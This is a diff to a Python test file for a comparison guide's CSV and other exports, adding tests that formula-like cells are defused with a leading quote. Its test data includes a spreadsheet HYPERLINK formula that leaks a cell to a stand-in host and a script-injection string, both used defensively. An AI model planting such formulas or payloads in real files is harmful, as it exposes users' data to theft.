@@ -14,8 +14,8 @@ from bs4 import BeautifulSoup
 from jsonschema import Draft202012Validator
 
 from conftest import ROOT, build_site
-from guide import exports
-from guide.exports import SiteInfo
+from guide.publish import exports
+from guide.publish.exports import SiteInfo
 
 SITE = SiteInfo(name="FastAPI or Django?", url="https://guide.example/", licence="CC BY 4.0")
 NASTY = 'Pipe | <script>alert("x")</script> "quoted", comma\nsecond line \\| end'
@@ -148,9 +148,9 @@ def test_csv_keeps_hostile_text_exactly(nasty_guide):
     first = rows[0]
     assert first["criterion"] == first["group"] == first["verdict"] == first["detail"] == first["judgement"] == NASTY
     assert first["framework"] == 'Fast|API "<b>"'
-    # Written back with RFC 4180 quoting and CRLF record ends, the parsed rows give the same text.
+    # Written back with RFC 4180 quoting of every cell and CRLF record ends, the parsed rows give the same text.
     again = io.StringIO(newline="")
-    csv.writer(again, lineterminator="\r\n").writerows(csv.reader(io.StringIO(text, newline="")))
+    csv.writer(again, lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(csv.reader(io.StringIO(text, newline="")))
     assert again.getvalue() == text
 
 
@@ -192,3 +192,47 @@ def test_every_export_names_its_source_and_review_date(guide):
 
 def test_exports_are_deterministic_functions(guide):
     assert exports.exports(guide, SITE) == exports.exports(guide, SITE)
+
+
+FORMULAS = {
+    "verdict": '=HYPERLINK("https://example.invalid/?leak="&A1,"details")',
+    "detail": "+1 more than the other",
+    "judgement": "-2 points; an arrow ->",
+    "title": "@SUM(A1:A9)",
+    "measures": "\tstarts with a tab",
+    "name": "\rstarts with a carriage return",
+    "description": "\nstarts with a line feed",
+}
+
+
+def test_csv_cells_never_start_a_formula(guide):
+    """OWASP's CSV-injection remedy: a cell a spreadsheet would run gets a leading single quote,
+    every cell is in double quotes, and the text is otherwise unchanged."""
+    group, criterion, framework = guide.groups[0], guide.groups[0].criteria[0], guide.frameworks[0]
+    assessment = criterion.assessments[framework.id].model_copy(
+        update={key: FORMULAS[key] for key in ("verdict", "detail", "judgement")})
+    criterion = criterion.model_copy(update={
+        "title": FORMULAS["title"], "measures": FORMULAS["measures"],
+        "assessments": {**criterion.assessments, framework.id: assessment}})
+    group = group.model_copy(update={"title": "a; =1+2", "criteria": [criterion, *group.criteria[1:]]})
+    hostile = guide.model_copy(update={
+        "groups": [group, *guide.groups[1:]],
+        "frameworks": [framework.model_copy(update={"name": FORMULAS["name"]}), *guide.frameworks[1:]]})
+    text = exports.comparison_csv(hostile, SITE)
+    first = csv_rows(text)[0]
+    for column, value in [("verdict", FORMULAS["verdict"]), ("detail", FORMULAS["detail"]),
+                          ("judgement", FORMULAS["judgement"]), ("criterion", FORMULAS["title"]),
+                          ("measures", FORMULAS["measures"]), ("framework", FORMULAS["name"])]:
+        assert first[column] == "'" + value, column
+    assert first["group"] == "a; =1+2"  # a formula after a separator stays inside its quoted cell
+    assert first["score"] == str(criterion.assessments[framework.id].rating.score)
+    for row in csv.reader(io.StringIO(text, newline="")):
+        assert not any(cell.startswith(exports.FORMULA_STARTS) for cell in row), row
+    assert all(line.startswith('"') for line in text.split("\r\n") if line), "every record starts with a quoted cell"
+
+
+def test_csv_cell_leaves_numbers_and_ordinary_text_alone():
+    assert exports.csv_cell(3) == 3
+    assert exports.csv_cell("Among the fastest") == "Among the fastest"
+    assert exports.csv_cell("p99 = 50 ms") == "p99 = 50 ms"
+    assert exports.csv_cell("-") == "'-"
